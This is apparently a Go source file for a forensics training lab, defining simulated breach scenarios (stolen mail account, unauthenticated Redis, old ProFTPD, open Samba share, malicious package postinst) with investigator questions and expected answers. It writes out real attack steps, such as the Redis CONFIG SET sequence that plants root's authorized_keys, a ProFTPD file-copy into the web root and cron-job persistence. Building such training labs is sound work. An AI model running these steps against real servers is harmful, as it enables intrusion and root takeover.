package scenarios

import (
	"errors"
	"fmt"
	"time"

	"telltale/lab"
	"telltale/lab/site"
)

func mailAccount() *lab.Scenario {
	return &lab.Scenario{
		Name: "mail-account", Title: "a stolen mail account relays spam", Question: "Mails leave by the hundred. Whose account sends them, and from where?",
		Setup: func(p *lab.Play) lab.Setup {
			s := server(p, lab.Mail, lab.Web)
			weaken(p, &s, 1)
			return s
		},
		Story: func(p *lab.Play) error {
			f, who := &p.Intruder, p.Staff[1]
			n := 80 + p.Rand.IntN(120)
			if !p.Stage.Written() {
				n = 40
			}
			own := func() error {
				return p.Stage.Submit(p.Ctx, lab.Submission{From: who.Address, Account: who.Account, Password: who.Password, Sender: who.Account + "@" + p.Domain, Recipients: []string{"friend@example.net"}})
			}
			submit := func(account, password string, k int) error {
				m := lab.Submission{From: f.Addresses[0], Account: account, Password: password, Sender: who.Account + "@" + p.Domain, Subject: "Your parcel is waiting"}
				for i := range k {
					m.Recipients = append(m.Recipients, fmt.Sprintf("customer%d@example.net", i))
				}
				return p.Stage.Submit(p.Ctx, m)
			}
			return steps(own, func() error { return life(p, 3) }, own, func() error { return later(p) },
				func() error {
					for _, w := range []string{"123456", who.Account, "password", who.Account + "1"} {
						if err := p.Act("mail_guess", lab.Intruder, who.Account, f.Addresses[0], "tries the mail account with "+w+": refused", func() error {
							if err := submit(who.Account, w, 1); !errors.Is(err, lab.ErrRefused) {
								return fmt.Errorf("not refused: %w", err)
							}
							return nil
						}); err != nil {
							return err
						}
						if err := p.Pause(2); err != nil {
							return err
						}
					}
					return nil
				},
				func() error {
					return p.Act("spam", lab.Intruder, who.Account, f.Addresses[0], "sends spam with the mail account", func() error { return submit(who.Account, who.Password, n) })
				},
				func() error {
					status(p, "compromised")
					p.Entered("mail-account", who.Account, "sends spam", []string{"mail.log"}, f.Addresses[0])
					p.Truth.Expect.Impact = []lab.ImpactTruth{{What: "spam", MinCount: int64(n), By: who.Account, First: p.First("sends spam")}}
					return life(p, 1)
				})
		},
	}
}

func redisKey() *lab.Scenario {
	return &lab.Scenario{
		Name: "redis-key", Title: "a redis without a password writes a key of root's", Question: "Root logs in by a key that nobody knows. How did it get there?",
		Setup: func(p *lab.Play) lab.Setup {
			s := server(p, lab.Redis, lab.Web)
			s.Files = append(s.Files, lab.File{Path: "/root/.ssh/", Owner: "root", Mode: 0o700})
			return s
		},
		Story: func(p *lab.Play) error {
			f := &p.Intruder
			fetch, program, err := brings(p, f)
			return steps(func() error { return err }, func() error { return life(p, 2+p.Rand.IntN(3)) }, func() error { return later(p) },
				func() error {
					return p.Act("redis", lab.Intruder, "root", f.Addresses[0], "makes redis write an authorized_keys", func() error {
						return p.Stage.Redis(p.Ctx, f.Addresses[0], []string{"CONFIG", "SET", "dir", "/root/.ssh"}, []string{"CONFIG", "SET", "dbfilename", "authorized_keys"}, []string{"SET", "x", "\n\n" + f.Key.Public() + "\n\n"}, []string{"SAVE"})
					})
				},
				func() error { return p.Pause(20) },
				func() error {
					lines := append(append(looks(p), fetch...), "echo '*/8 * * * * root "+program+" >/dev/null 2>&1' > /etc/cron.d/"+f.CronFile, ":cron")
					return p.Visit(lab.Intruder, "logs in as root with the planted key", lab.Login{From: f.Addresses[1], Account: "root", Key: f.Key}, lines...)
				},
				func() error {
					status(p, "compromised")
					p.Entered("database-exposed", "root", "makes redis write", []string{"redis-server.log", "the file itself"}, f.Addresses[0])
					e := &p.Truth.Expect.Entry[0]
					e.Sources = []string{f.Addresses[1].String()} // redis logs no address: the login's is what can be known
					p.Truth.Expect.Returns = []lab.EntryTruth{{Vector: "ssh-key", Account: "root", Sources: []string{f.Addresses[1].String()}, First: p.First("planted key"), Tolerance: 5}}
					p.Left("ssh-key", "/root/.ssh/authorized_keys", "root")
					p.Left("cron", "/etc/cron.d/"+f.CronFile, "root")
					p.Root(true)
					p.Truth.Expect.Files = []string{program}
					return life(p, 1)
				})
		},
	}
}

func missingPatch() *lab.Scenario {
	return &lab.Scenario{
		Name: "missing-patch", Title: "an old ftp daemon copies files for whoever asks", Question: "Which daemon let them in, and was it a missing patch?",
		Setup: func(p *lab.Play) lab.Setup { return server(p, lab.Web, lab.ProFTPD) },
		Story: func(p *lab.Play) error {
			f := &p.Intruder
			script, n, program, err := webShell(p, f)
			path := "/" + f.Script
			return steps(func() error { return err }, func() error { return life(p, 2+p.Rand.IntN(3)) }, func() error { return later(p) },
				func() error {
					return p.Act("exploit", lab.Intruder, "nobody", f.Addresses[0], "lets proftpd copy a script into the web root", func() error {
						return p.Stage.FTP(p.Ctx, lab.Transfer{From: f.Addresses[0], CopyFrom: "/proc/self/cmdline", CopyTo: site.Root + path, Data: script})
					})
				},
				func() error { return asks(p, f, path, n) }, func() error { return p.Stage.Cron(p.Ctx) },
				func() error {
					status(p, "compromised")
					p.Entered("daemon-exploit", "nobody", "lets proftpd copy", []string{"proftpd's extended log", "access.log"}, f.Addresses[0])
					shellLeft(p, site.Root+path, program)
					return life(p, 1)
				})
		},
	}
}

func sambaShare() *lab.Scenario {
	return &lab.Scenario{
		Name: "samba-share", Title: "an open share writes into the web root", Question: "The script came neither by the web site nor by ssh. How?",
		Setup: func(p *lab.Play) lab.Setup { return server(p, lab.Web, lab.Samba) },
		Story: func(p *lab.Play) error {
			f := &p.Intruder
			script, n, program, err := webShell(p, f)
			own := func() error {
				return p.Act("share", lab.Visitor, "nobody", p.Staff[0].Address, "brings a page over the share", func() error {
					return p.Stage.Share(p.Ctx, lab.Share{From: p.Staff[0].Address, Machine: p.Staff[0].Account + "-pc", Path: fmt.Sprintf("page%d.html", p.Rand.IntN(900)), Data: []byte("<h1>page</h1>")})
				})
			}
			return steps(func() error { return err }, own, func() error { return life(p, 2+p.Rand.IntN(3)) }, own, func() error { return later(p) },
				func() error {
					return p.Act("share", lab.Intruder, "nobody", f.Addresses[0], "puts a script on the share", func() error {
						return p.Stage.Share(p.Ctx, lab.Share{From: f.Addresses[0], Machine: "desktop-" + f.Marks[:4], Path: f.Script, Data: script})
					})
				},
				func() error { return asks(p, f, "/"+f.Script, n) }, func() error { return p.Stage.Cron(p.Ctx) },
				func() error {
					status(p, "compromised")
					p.Entered("open-share", "nobody", "puts a script on the share", []string{"syslog (full_audit)", "samba/log.*"}, f.Addresses[0])
					shellLeft(p, site.Root+"/"+f.Script, program)
					return life(p, 1)
				})
		},
	}
}

func supplyChain() *lab.Scenario {
	return &lab.Scenario{
		Name: "supply-chain", Title: "a package's post-install leaves a cron job", Question: "Nobody broke in, and still something runs as root. Where does it come from?",
		Setup: func(p *lab.Play) lab.Setup {
			f := &p.Intruder
			s := server(p, lab.Web)
			name := lab.Pick(p, "font-tools", "pdf-helper", "log-viewer", "net-graph") + fmt.Sprint(p.Rand.IntN(9))
			s.Packages = []lab.Package{{Name: name, Version: fmt.Sprintf("1.%d.0", p.Rand.IntN(20)), Files: []lab.File{{Path: "/usr/share/" + name + "/readme.txt", Owner: "root", Mode: 0o644, Data: []byte("useful\n")},
				{Path: "/usr/lib/" + name + "/" + f.Program, Owner: "root", Mode: 0o755, Data: waiter(f)}},
				Postinst: []string{"mkdir -p " + f.Dir, "cp /usr/lib/" + name + "/" + f.Program + " " + f.Dir + "/" + f.Program, "chmod 755 " + f.Dir + "/" + f.Program, "echo '*/9 * * * * root " + f.Dir + "/" + f.Program + " >/dev/null 2>&1' > /etc/cron.d/" + f.CronFile}}}
			return s
		},
		Story: func(p *lab.Play) error {
			f := &p.Intruder
			deb := p.Setup.Packages[0].FileName()
			return steps(func() error { return life(p, 2+p.Rand.IntN(3)) },
				func() error {
					return p.Act("package", lab.Intruder, "root", p.Admin.Address, "a package is installed whose script leaves a cron job", func() error {
						return p.Visit(lab.Admin, "logs in by key and installs a package", lab.Login{From: p.Admin.Address, Account: p.Admin.Account, Key: p.Admin.Key}, "df -h", "sudo dpkg -i /srv/packages/"+deb)
					})
				}, func() error { return p.Stage.Cron(p.Ctx) },
				func() error {
					status(p, "compromised")
					p.Truth.Expect.Entry = []lab.EntryTruth{{Vector: "supply-chain", Account: "root", Sources: []string{}, First: p.First("a package is installed"), FirstAct: "a package is installed", Tolerance: 30,
						Shown: lab.Shown{By: []string{"dpkg.log", "postinst"}}}}
					p.Left("cron", "/etc/cron.d/"+f.CronFile, "root")
					p.Root(true)
					p.Truth.Expect.Files = []string{f.Dir + "/" + f.Program}
					return life(p, 1)
				})
		},
	}
}

func quiet() *lab.Scenario {
	return &lab.Scenario{
		Name: "quiet", Title: "a busy server on which nothing happened", Question: "The provider is worried. Is there anything?",
		Setup: func(p *lab.Play) lab.Setup {
			s := withUploads(server(p, lab.Web, lab.Mail, lab.FTP))
			s.Packages = []lab.Package{{Name: "tree-view", Version: "2.1", Files: []lab.File{{Path: "/usr/bin/tree-view", Owner: "root", Mode: 0o755, Data: []byte("#!/bin/sh\nls -R\n")}}}}
			return s
		},
		Past: func(p *lab.Play) error { return calm(p, lab.PastDays) },
		Story: func(p *lab.Play) error {
			return steps(func() error { return calm(p, 3+p.Rand.IntN(3)) }, func() error { return photo(p) },
				func() error {
					return p.Visit(lab.Admin, "logs in by key, installs a package, looks after the site and lets an old log go", lab.Login{From: p.Admin.Address, Account: p.Admin.Account, Key: p.Admin.Key},
						"sudo dpkg -i /srv/packages/tree-view_2.1_all.deb", "sudo sed -i s/hills/mountains/ /var/www/html/about.html", "sudo rm -f /var/log/apt/term.log", "sudo systemctl reload apache2")
				},
				func() error {
					p.Truth.Expect.StatusAny = []string{"clean", "cannot-tell"}
					p.Truth.Expect.Status = ""
					return calm(p, 1)
				})
		},
	}
}

func guessedAt() *lab.Scenario {
	return &lab.Scenario{
		Name: "guessed-at", Title: "everybody tries, nobody gets in", Question: "Did any of those who guess get in?",
		Setup: func(p *lab.Play) lab.Setup { return server(p, lab.Web, lab.Mail) },
		Story: func(p *lab.Play) error {
			who := p.Staff[1]
			return steps(func() error { return life(p, 2) },
				func() error {
					for _, from := range p.Intruder.Net {
						if err := p.Refused(lab.Intruder, from, lab.Pick(p, "root", who.Account, "admin"), "123456", "password", "qwerty"); err != nil {
							return err
						}
					}
					return nil
				},
				func() error {
					return p.Refused(lab.Visitor, who.Address, who.Account, who.Password+"x", who.Password+"y")
				},
				func() error { return owner(p, who) },
				func() error {
					status(p, "attacked")
					for _, a := range p.Intruder.Net {
						p.Truth.Expect.Attackers = append(p.Truth.Expect.Attackers, a.String())
					}
					return p.Stage.Wait(p.Ctx, time.Hour)
				}, func() error { return life(p, 1) })
		},
	}
}
